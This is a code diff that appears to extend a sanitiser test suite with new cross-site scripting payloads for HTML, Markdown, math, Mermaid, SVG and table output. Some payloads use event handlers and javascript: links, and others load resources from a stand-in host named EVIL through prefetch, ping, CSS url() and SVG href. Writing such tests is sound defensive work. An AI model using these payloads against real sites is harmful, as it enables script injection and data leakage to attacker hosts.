@@ -34,6 +34,20 @@ PAYLOADS = [
     "<b\nonclick=alert(1)>x</b> <x-y onclick=alert(1)>",
     "\\<script>alert(1)\\</script> <<script>alert(1)<</script>",
     "{{ ''.__class__ }} {% raw %} ${alert(1)}",
+    f'<script type=speculationrules>{{"prefetch": [{{"source": "list", "urls": ["{EVIL}/p"]}}]}}</script>',
+    f"<link rel=modulepreload href={EVIL}/m.js><link rel=preconnect href={EVIL}/><link rel=prefetch href={EVIL}/n>",
+    f'<picture><source srcset="{EVIL}/s.png 1x"><img srcset="{EVIL}/t.png 1x" src={EVIL}/u.png></picture>',
+    "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
+    "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
+    "<!--<script>alert(1)//",  # within a script of ours: what follows would be its text, to the end of the page
+    "words {: onmouseover=alert(1) onfocus=alert(1) tabindex=0 autofocus } [go](x){: href='javascript:alert(1)' onclick='alert(1)' }",
+    'x\n\n[home]: javascript:alert(1)\n[1]: javascript:alert(2)\n\n*[title]: "><img src=x onerror=alert(1)>\n\n[^1]: <img src=x onerror=alert(1)>\n\nsee [home], [^1]',
+    f"$\\href{{javascript:alert(1)}}{{x}} \\includegraphics{{{EVIL}/i.png}} \\htmlData{{x=y}}{{z}} \\url{{javascript:alert(1)}}$",
+    '!!! note "<img src=x onerror=alert(1)>"\n    <img src=x onerror=alert(1)>\n\n<div markdown=1 onclick=alert(1)>x</div>',
+    '``` mermaid\ngraph TD; A[<img src=x onerror=alert(1)>] --> B; click A href "javascript:alert(1)"\n```',
+    "<div style=content-visibility:auto oncontentvisibilityautostatechange=alert(1)>x</div><input type=hidden onbeforematch=alert(1) hidden=until-found>",
+    f"<a href=/ ping={EVIL}/ping>go</a><body onload=alert(1) background={EVIL}/b.png><marquee onstart=alert(1)>x</marquee>",
+    "<![CDATA[<img src=x onerror=alert(1)>]]><?xml version='1.0'?><img src=x onerror=alert(1)>",
 ]
 S = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="96" height="48"'
 DRAWINGS = [
@@ -67,6 +81,17 @@ DRAWINGS = [
     f"<svg {S}><discard onend='alert(1)'/><audio src='{EVIL}/a'/></svg>",
     f"<svg {S}><rect cursor='url({EVIL}/c.cur)' mask='url({EVIL}/m.svg#m)' width='9' height='9'/></svg>",
     "<html><body><script>alert(1)</script></body></html>",
+    f"<svg {S}><style>@font-face {{ font-family: x; src: url({EVIL}/f.woff) }} text {{ font-family: x }}</style><text y='9'>x</text></svg>",
+    f"<svg {S}><style>rect {{ fill: \\75rl({EVIL}/s.svg#a) }} @\\69mport '{EVIL}/s.css';</style><rect/></svg>",
+    f"<svg {S}><style>svg {{ --x: url({EVIL}/v.png); background: var(--x) }}</style><rect/></svg>",
+    f"<svg {S}><g xml:base='{EVIL}/'><image href='x.png' width='9' height='9'/></g></svg>",
+    f"<svg {S}><image href='//evil.example/x.png' width='9' height='9'/><image href='/\\evil.example/y.png' width='9' height='9'/></svg>",
+    f"<svg {S}><linearGradient id='g' href='{EVIL}/g.svg#g'/><rect fill='url(#g)' width='9' height='9'/></svg>",
+    f"<svg {S}><use href='data:image/svg+xml,%3Csvg id=%22x%22 xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cimage href=%221%22 onerror=%22alert(1)%22/%3E%3C/svg%3E#x'/></svg>",
+    f"<svg {S}><script href='{EVIL}/s.js'/><script xlink:href='data:text/javascript,alert(1)'/></svg>",
+    f"<svg {S}><text><textPath href='{EVIL}/t.svg#p'>x</textPath></text><pattern id='p' xlink:href='{EVIL}/p.svg#p'/></svg>",
+    f"<svg {S}><rect fill='ur&#x6c;({EVIL}/s.svg#a)' style='mask:/**/url(/*x*/\"{EVIL}/m.svg#m\")' width='9' height='9'/></svg>",
+    f"<?xml version='1.0' encoding='UTF-7'?><svg {S}><text>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</text><script>alert(1)</script></svg>",
 ]
 T = "<table><tr><td>1</td></tr></table>"
 TABLES = [  # what a script hands over as HTML
@@ -82,7 +107,16 @@ TABLES = [  # what a script hands over as HTML
     f"<template><script>alert(1)</script></template><details open ontoggle=alert(1)>x</details>{T}",
     f"<style>#T_a{{}}</style\n><link rel=stylesheet href={EVIL}/c.css><base href={EVIL}/><meta http-equiv=refresh content='0;url={EVIL}/'>{T}",
 ]
+TABLES += [
+    f"<table><tr><td style='background:u\\72l({EVIL}/i.png)'>1</td><td style='--x:url({EVIL}/j.png);background:var(--x)'>2</td></tr></table>",
+    f"<style>#T_a td {{ list-style: url({EVIL}/l.png); content: url({EVIL}/c.png) }} @font-face {{ font-family: x; src: url({EVIL}/f) }}</style>{T}",
+    f"<table><caption><plaintext onmouseover=alert(1)></caption><tr><td><button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>{T}",
+    f"<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div><picture><source srcset='{EVIL}/s.png 1x'></picture>{T}",
+    f"<!--<script>-->{T}<!-- --!><img src=x onerror=alert(1)> --><details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
+]
 NAMES = [
+    "${alert(1)}{{ 7 }}",
+    "%3Cscript%3Ealert(1)",
     "<img src=x onerror=alert(1)>",
     '"onload="alert(1)',
     "a'b&<b>c",
